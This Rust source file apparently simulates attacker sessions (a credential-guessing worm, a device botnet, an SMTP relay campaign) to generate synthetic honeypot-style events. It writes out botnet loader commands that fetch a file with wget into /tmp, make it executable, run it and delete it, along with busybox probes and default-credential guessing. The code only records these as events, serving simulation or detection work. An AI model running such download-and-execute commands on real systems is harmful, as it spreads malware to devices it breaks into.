//! Sessions of programs that many machines run: the worm, the botnet, the relay campaign.

use std::borrow::Cow;

use super::super::cast::props::Leaves;
use super::super::words::Credential;
use super::{Acts, Event};

/// How far a worm gets.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Reach {
    Login,
    Payload,
}

/// How many entries a worm's list has: so many that two machines seldom try the same one.
const LIST_ENTRIES: u32 = 3_000;

impl Acts<'_> {
    /// Guesses until the last but one session, which gets in; the last one comes back with the
    /// verification pair, to learn whether the machine accepts anything.
    pub(super) fn worm(&mut self, group: u32, nth: u32, reach: Reach) {
        self.greet();
        let worm = usize::try_from(group).ok().and_then(|group| self.cast.worms.get(group));
        let Some(worm) = worm else { return };
        let left = self.attacker.sessions.saturating_sub(nth);
        match left {
            0 | 1 => return self.enter(Credential::probe()),
            2 => {}
            _ => {
                let guess = Credential::anywhere(worm.list, LIST_ENTRIES, &mut self.dice);
                return self.fail(guess);
            }
        }
        let credential = Credential::anywhere(worm.list, LIST_ENTRIES, &mut self.dice);
        let home = if credential.user == "root" {
            "/root".to_owned()
        } else {
            format!("/home/{}", credential.user)
        };
        self.enter(credential);
        if reach == Reach::Login {
            return;
        }
        for (command, leaves) in &worm.commands {
            let event = match leaves {
                Leaves::Nothing => None,
                Leaves::Complaint(text) => Some(Event::CommandFailed(Cow::Borrowed(text.as_str()))),
                Leaves::Key => Some(Event::Saved {
                    file: &worm.keys_file,
                    path: format!("{home}/{}", worm.keys_file.name),
                }),
                Leaves::Payload => Some(Event::Downloaded(&worm.payload)),
            };
            self.execute(command, event);
        }
    }

    /// Tries what devices have, opens a shell, loads the loader and what it loads.
    pub(super) fn botnet(&mut self, group: u32, nth: u32) {
        let botnet = usize::try_from(group).ok().and_then(|group| self.cast.botnets.get(group));
        let Some(botnet) = botnet else { return };
        for _ in 0..self.dice.below(5) {
            let guess = Credential::device(&mut self.dice);
            self.after(150, 900, Event::LoginFailed(guess));
        }
        let credential = Credential::device(&mut self.dice);
        // The first session always gets in; later ones are often turned away.
        if nth > 0 && self.dice.happens(400) {
            return self.fail(credential);
        }
        self.enter(credential);
        let machine = self.dice.below(3);
        let Some((arch, binary)) =
            usize::try_from(machine).ok().and_then(|machine| botnet.binaries.get(machine))
        else {
            return;
        };
        self.after(30, 200, Event::Shell { arch });
        for word in ["enable", "system", "shell"] {
            self.after(2, 200, Event::Command(Cow::Borrowed(word)));
            if word != "enable" {
                self.after(1, 2, Event::CommandFailed(Cow::Borrowed(word)));
            }
        }
        self.after(1, 3, Event::Command(Cow::Borrowed("sh")));
        // A new token each time tells the program where its own output ends.
        let token = self.dice.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ", 5);
        self.after(
            100,
            400,
            Event::Command(Cow::Owned(format!("cat /proc/mounts; /bin/busybox {token}"))),
        );
        let load = format!(
            "cd /tmp || cd /var/run || cd /mnt; wget {url}; chmod 777 {name}; sh {name}; rm -f {name}",
            url = botnet.loader.url,
            name = botnet.loader.name
        );
        self.after(100, 400, Event::Command(Cow::Owned(load)));
        self.after(200, 1_500, Event::Downloaded(&botnet.loader));
        let run =
            format!("wget {}; chmod +x {name}; ./{name} telnet", binary.url, name = binary.name);
        self.after(50, 300, Event::Command(Cow::Owned(run)));
        if self.dice.happens(60) {
            self.after(2_000, 15_000, Event::DownloadFailed(binary));
        } else {
            self.after(200, 2_500, Event::Downloaded(binary));
        }
        self.after(100, 400, Event::Command(Cow::Owned(format!("/bin/busybox {token}"))));
        self.close_shell(&token);
    }

    /// One login, one tunnel to the mail server.
    pub(super) fn relay(&mut self, group: u32) {
        self.greet();
        let relay = usize::try_from(group).ok().and_then(|group| self.cast.relays.get(group));
        let Some(relay) = relay else { return };
        let credential = if self.dice.happens(600) {
            Credential::common(&mut self.dice)
        } else {
            Credential::own(self.taste(), &mut self.dice)
        };
        self.enter(credential);
        let origin_port = 1024 + self.dice.below(64_000);
        self.after(400, 1_200, Event::Tunnel { host: &relay.host, port: 25, origin_port });
        if self.dice.happens(250) {
            let greeting = Cow::Borrowed(b"EHLO mail.example.org\r\n".as_slice());
            self.after(
                300,
                3_000,
                Event::TunnelData { host: &relay.host, port: 25, data: greeting },
            );
        }
        self.linger = (1_000, 6_000);
    }
}
